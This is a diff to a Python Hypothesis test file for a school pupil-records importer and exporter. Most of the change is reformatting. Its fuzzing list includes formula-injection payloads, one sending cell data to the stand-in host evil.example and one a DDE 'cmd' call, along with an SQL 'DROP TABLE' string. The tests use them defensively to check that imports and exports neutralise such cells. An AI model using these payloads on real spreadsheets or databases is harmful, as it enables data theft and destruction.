@@ -35,13 +35,47 @@ HEADER = "UPN,Legal Surname,Legal Forename,Date of Birth,Category,Category Start
 FEW = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 SOME = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 
-HOSTILE_TEXT = st.sampled_from([
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
-    "\t=1", "\r=1", "a\x00b", "\x00", "31/02/2015", "29/02/2015", "00/00/0000", "32/13/2020", "2015-02-30",
-    "9999-99-99", "0000-01-01", "01/01/0000", "１２/０３/２０２０", "١٢/٠٣/٢٠٢٠", "\ufeffUPN", "\u202eevil",
-    "'; DROP TABLE pupil; --", "NaN", "inf", "-0", "1e309", "", " ", "\n", "\"", "\"\"\"", ",,,,", "é" * 500,
-    "x" * 5000, "B801200005001", "b801 2000 05001", "A" * 13,
-])
+HOSTILE_TEXT = st.sampled_from(
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1",
+        "\r=1",
+        "a\x00b",
+        "\x00",
+        "31/02/2015",
+        "29/02/2015",
+        "00/00/0000",
+        "32/13/2020",
+        "2015-02-30",
+        "9999-99-99",
+        "0000-01-01",
+        "01/01/0000",
+        "１２/０３/２０２０",
+        "١٢/٠٣/٢٠٢٠",
+        "\ufeffUPN",
+        "\u202eevil",
+        "'; DROP TABLE pupil; --",
+        "NaN",
+        "inf",
+        "-0",
+        "1e309",
+        "",
+        " ",
+        "\n",
+        '"',
+        '"""',
+        ",,,,",
+        "é" * 500,
+        "x" * 5000,
+        "B801200005001",
+        "b801 2000 05001",
+        "A" * 13,
+    ]
+)
 ANY_TEXT = st.one_of(st.text(max_size=60), HOSTILE_TEXT)
 
 
@@ -51,6 +85,7 @@ def _problem_ok(p: Problem) -> None:
 
 
 # --- validators ----------------------------------------------------------------------------------
+
 
 @SOME
 @given(ANY_TEXT)
@@ -62,7 +97,9 @@ def test_validate_upn_never_raises(text):
 
 
 @SOME
-@given(st.text(alphabet="0123456789", min_size=11, max_size=11), st.sampled_from("0123456789" + CHECK_LETTERS))
+@given(
+    st.text(alphabet="0123456789", min_size=11, max_size=11), st.sampled_from("0123456789" + CHECK_LETTERS)
+)
 def test_every_checked_upn_validates(digits, last):
     body = digits + last
     upn = check_letter(body) + body
@@ -93,26 +130,53 @@ floats = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True))
 
 @SOME
 @given(
-    upn=ANY_TEXT, surname=ANY_TEXT, forename=ANY_TEXT, dob=dates, admission=dates, leaving=dates,
-    override=st.one_of(st.none(), st.integers()), sen=ANY_TEXT, review=dates, attendance=floats,
+    upn=ANY_TEXT,
+    surname=ANY_TEXT,
+    forename=ANY_TEXT,
+    dob=dates,
+    admission=dates,
+    leaving=dates,
+    override=st.one_of(st.none(), st.integers()),
+    sen=ANY_TEXT,
+    review=dates,
+    attendance=floats,
     gender=ANY_TEXT,
-    episodes=st.lists(st.builds(EpisodeInput, category=st.one_of(st.sampled_from(["CLA", "PLA", "CIN", "CP"]),
-                                                                 ANY_TEXT),
-                                start_date=st.dates(), end_date=dates, pla_route=ANY_TEXT), max_size=4),
+    episodes=st.lists(
+        st.builds(
+            EpisodeInput,
+            category=st.one_of(st.sampled_from(["CLA", "PLA", "CIN", "CP"]), ANY_TEXT),
+            start_date=st.dates(),
+            end_date=dates,
+            pla_route=ANY_TEXT,
+        ),
+        max_size=4,
+    ),
 )
-def test_validate_pupil_returns_problems_never_raises(upn, surname, forename, dob, admission, leaving,
-                                                      override, sen, review, attendance, gender, episodes):
-    data = PupilInput(upn=upn, legal_surname=surname, legal_forename=forename, date_of_birth=dob,
-                      admission_date=admission, leaving_date=leaving, year_group_override=override,
-                      sen_status=sen, ehcp_review_date=review, attendance_pct=attendance, gender=gender)
+def test_validate_pupil_returns_problems_never_raises(
+    upn, surname, forename, dob, admission, leaving, override, sen, review, attendance, gender, episodes
+):
+    data = PupilInput(
+        upn=upn,
+        legal_surname=surname,
+        legal_forename=forename,
+        date_of_birth=dob,
+        admission_date=admission,
+        leaving_date=leaving,
+        year_group_override=override,
+        sen_status=sen,
+        ehcp_review_date=review,
+        attendance_pct=attendance,
+        gender=gender,
+    )
     problems = validate_pupil(data, episodes, TODAY)
     for p in problems:
         _problem_ok(p)
-    if dob is None or attendance is not None and not 0 <= attendance <= 100:
+    if dob is None or (attendance is not None and not 0 <= attendance <= 100):
         assert problems
 
 
 # --- the importer --------------------------------------------------------------------------------
+
 
 def _write(tmp_path: Path, name: str, data: bytes) -> Path:
     path = tmp_path / name
@@ -138,9 +202,11 @@ row_cells = st.lists(ANY_TEXT, min_size=0, max_size=9)
 
 
 @SOME
-@given(rows=st.lists(row_cells, min_size=0, max_size=6),
-       encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]),
-       delimiter=st.sampled_from([",", ";", "\t"]))
+@given(
+    rows=st.lists(row_cells, min_size=0, max_size=6),
+    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]),
+    delimiter=st.sampled_from([",", ";", "\t"]),
+)
 def test_hostile_csv_cells_end_in_problems_with_lines(tmp_path, rows, encoding, delimiter):
     buffer = io.StringIO()
     writer = csv.writer(buffer, delimiter=delimiter)
@@ -170,8 +236,18 @@ def _upn(n: int) -> str:
 
 
 @FEW
-@given(bad=st.lists(st.tuples(st.sampled_from(["Legal Surname", "Date of Birth", "Category", "Category Start",
-                                               "Attendance %", "UPN"]), HOSTILE_TEXT), min_size=1, max_size=4))
+@given(
+    bad=st.lists(
+        st.tuples(
+            st.sampled_from(
+                ["Legal Surname", "Date of Birth", "Category", "Category Start", "Attendance %", "UPN"]
+            ),
+            HOSTILE_TEXT,
+        ),
+        min_size=1,
+        max_size=4,
+    )
+)
 def test_a_rejected_import_leaves_the_store_untouched(store, tmp_path, bad):
     columns = HEADER.split(",")
     good = [_upn(1), "Okafor", "Ada", "02/03/2014", "CIN", "08/01/2024", "95"]
@@ -195,9 +271,12 @@ def test_a_rejected_import_leaves_the_store_untouched(store, tmp_path, bad):
 
 
 def test_formulas_and_nuls_are_problems_not_data(store, tmp_path):
-    text = (HEADER + "\n"
-            + f"{_upn(1)},=HYPERLINK(\"http://x\"),Ada,02/03/2014,,,\n"
-            + f"{_upn(2)},Okafor,Bo\x00b,31/02/2014,,,\n")
+    text = (
+        HEADER
+        + "\n"
+        + f'{_upn(1)},=HYPERLINK("http://x"),Ada,02/03/2014,,,\n'
+        + f"{_upn(2)},Okafor,Bo\x00b,31/02/2014,,,\n"
+    )
     plan = parse_file(_write(tmp_path, "f.csv", text.encode()), TODAY)
     messages = [str(p) for p in plan.problems]
     assert any("line 3" in m and "NUL" in m for m in messages)
@@ -212,8 +291,9 @@ def _big_upn(n: int) -> str:
 @pytest.mark.parametrize("dob", ["31/02/2014", "02/03/2014"])
 def test_a_huge_file_ends_promptly_in_problems_or_a_plan(store, tmp_path, dob):
     """5 MB, 50,000 rows: every row bad (a problem list), or every row good (a plan to preview)."""
-    lines = [HEADER] + [f"{_big_upn(i)},Surname-{i}-{'x' * 30},Forename,{dob},CIN,01/01/2020,95"
-                        for i in range(50_000)]
+    lines = [HEADER] + [
+        f"{_big_upn(i)},Surname-{i}-{'x' * 30},Forename,{dob},CIN,01/01/2020,95" for i in range(50_000)
+    ]
     path = _write(tmp_path, "huge.csv", ("\n".join(lines) + "\n").encode())
     assert path.stat().st_size > 4_500_000
     before = _counts(store)
@@ -253,8 +333,14 @@ def _workbook(path: Path, rows: list[list[object]]) -> Path:
     return path
 
 
-xlsx_cell = st.one_of(st.none(), ANY_TEXT, st.integers(), st.floats(allow_nan=False), st.booleans(),
-                      st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)))
+xlsx_cell = st.one_of(
+    st.none(),
+    ANY_TEXT,
+    st.integers(),
+    st.floats(allow_nan=False),
+    st.booleans(),
+    st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)),
+)
 
 
 @FEW
@@ -296,6 +382,7 @@ def test_a_damaged_workbook_is_a_problem(tmp_path, how):
 
 # --- exports -------------------------------------------------------------------------------------
 
+
 @SOME
 @given(ANY_TEXT)
 def test_neutralise_never_leaves_a_formula_start(cell):
@@ -305,14 +392,25 @@ def test_neutralise_never_leaves_a_formula_start(cell):
 
 
 @FEW
-@given(names=st.lists(st.tuples(st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20)),
-                                st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20))),
-                      min_size=1, max_size=3))
+@given(
+    names=st.lists(
+        st.tuples(
+            st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20)),
+            st.one_of(HOSTILE_TEXT, st.text(min_size=1, max_size=20)),
+        ),
+        min_size=1,
+        max_size=3,
+    )
+)
 def test_register_csv_cells_never_start_a_formula(store, tmp_path, names):
     created = 0
     for surname, forename in names:
-        data = PupilInput(upn=_big_upn(next(SERIALS)), legal_surname=surname, legal_forename=forename,
-                          date_of_birth=date(2014, 3, 2))
+        data = PupilInput(
+            upn=_big_upn(next(SERIALS)),
+            legal_surname=surname,
+            legal_forename=forename,
+            date_of_birth=date(2014, 3, 2),
+        )
         try:
             create_pupil(store.engine, data, [], today=TODAY)
             created += 1
